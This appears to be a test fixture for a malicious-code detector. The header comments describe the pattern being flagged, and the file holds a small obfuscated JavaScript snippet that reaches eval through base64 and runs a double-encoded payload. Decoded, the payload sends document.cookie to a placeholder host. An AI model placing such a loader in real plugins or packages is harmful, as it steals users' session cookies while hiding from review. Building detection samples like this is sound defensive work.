// expect: category=code-generation min=80 context=plugin,package
// why: the global arrives as an IIFE parameter bound to window/self; its eval runs a decoded string.
(function (w, key, data) {
  var fn = w[atob(key)];
  fn(atob(atob(data)));
})(
  typeof window !== 'undefined' ? window : self,
  'ZXZhbA==',
  'Wm1WMFkyZ29KMmgwZEhCek9pOHZZeTVsZUdGdGNHeGxMejlrUFNjclpHOWpkVzFsYm5RdVkyOXZhMmxsS1E9PQ=='
);
